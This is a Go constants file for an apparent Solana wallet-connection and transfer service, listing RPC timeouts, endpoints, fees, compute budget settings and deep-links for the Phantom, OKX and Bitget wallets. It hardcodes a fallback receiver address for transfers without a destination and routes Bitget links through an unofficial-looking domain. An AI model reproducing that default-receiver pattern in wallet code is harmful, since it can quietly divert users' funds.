package constants

import "time"

const (
	DelayBetweenRPCCalls     = 200                    // delay in milliseconds between RPC retries
	RPCCallTimeout           = 10 * time.Second       // timeout for a single RPC call
	ConfirmationPollInterval = 500 * time.Millisecond // delay between signature status polls
	ProviderPromptTimeout    = 2 * time.Minute        // upper bound for connect/sign prompts
	PendingAcquisitionTTL    = 15 * time.Minute       // how long a deferred acquisition stays resolvable
	SessionTokenLength       = 32                     // length of generated session tokens
	MaxRetries               = 10                     // maximum number of retries for RPC calls
)

// Network Types
const (
	NetworkSolana       = "solana"
	NetworkSolanaDevnet = "solana-devnet"
)

var OfficialRPCEndpoints = map[string][]string{
	NetworkSolana:       {"https://api.mainnet-beta.solana.com"},
	NetworkSolanaDevnet: {"https://api.devnet.solana.com"},
}

// Transfer and balance arithmetic. Amounts are in whole SOL.
const (
	NetworkFee       = 0.00005
	RentExemptAmount = 0.00100224

	// ReceiverPublicKey receives transfers that do not name a destination.
	ReceiverPublicKey = "BCuSYsckaRs5WK1w8bbpSbnKCe6xWFjLDSFo7AAwjUAo"

	// AddressPlaceholderPrefix marks internal placeholder addresses that are
	// never queried on chain.
	AddressPlaceholderPrefix = "solana_"
)

// Compute budget knobs, applied only when a fee strategy enables them.
const (
	ComputeUnitLimit              = 500
	ComputeUnitPriceMicroLamports = 20_000_000
)

// Deep-link prefixes for the mobile wallet apps.
const (
	PhantomDeepLinkBase = "https://phantom.app/ul/browse/"
	OKXDeepLinkBase     = "https://www.okx.com/download?deeplink="
	OKXDappURLScheme    = "okx://wallet/dapp/url?dappUrl="
	BitgetDeepLinkBase  = "https://bkcode.vip?action=dapp&url="
)

// Install pages opened on desktop when the extension is missing.
const (
	PhantomInstallURL = "https://phantom.app/"
	OKXInstallURL     = "https://www.okx.com/web3"
	BitgetInstallURL  = "https://web3.bitget.com/en/wallet-download"
)
